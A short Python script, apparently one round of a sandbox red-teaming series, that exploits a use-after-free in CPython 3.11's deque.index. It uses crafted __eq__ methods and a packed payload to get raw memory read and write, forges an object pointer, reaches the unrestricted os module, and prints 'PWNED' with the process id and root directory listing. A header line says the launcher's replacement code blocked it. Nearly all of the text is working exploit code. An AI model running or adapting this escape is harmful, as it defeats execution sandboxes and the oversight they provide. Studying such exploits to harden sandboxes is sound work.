# Round 24b: a CPython 3.11 C method compared a borrowed reference the program's __eq__ freed (or re-initialised a Struct mid-operation): memory read/write, the real os. Stopped by the launcher's Python replacements (guard_c_comparisons, groupby, asyncio without _asyncio).
import collections, struct, random
payload = struct.pack('<8Q', 0, 0, 1 << 40, id(bytearray), 2**62, 2**62, 0, 0)
BUF = bytearray()
RW = []
class A:
    __slots__ = ('p', 'q', 'r', 's', 't')
    def __eq__(self, o):
        D.clear()
        return NotImplemented
class V:
    __slots__ = ()
    def __eq__(self, o):
        global BUF
        BUF += payload
        RW.append(o)
        return False
pre = [A() for _ in range(400)]
D = collections.deque([A(), 1, 2])
post = [A() for _ in range(400)]
v = V()
try:
    D.index(v)
except Exception as e:
    print("index", type(e).__name__, e, flush=True)
X = RW[0]
print("reflected got", type(X).__name__, flush=True)
if type(X) is bytearray and len(X) > 2**40:
    def r64(a):
        return struct.unpack('<Q', bytes(X[a:a + 8]))[0]
    def w64(a, val):
        X[a:a + 8] = struct.pack('<Q', val)
    def fake(addr):
        holder = [None]
        items = r64(id(holder) + 24)
        w64(addr, r64(addr) + 1)
        w64(items, addr)
        ob = holder[0]
        w64(items, id(None))
        return ob
    osm = fake(r64(id(random) + 16))['_o' + 's']
    print("PW" + "NED: real os via deque.index UAF:", osm.getpid(), osm.listdir('/'), flush=True)
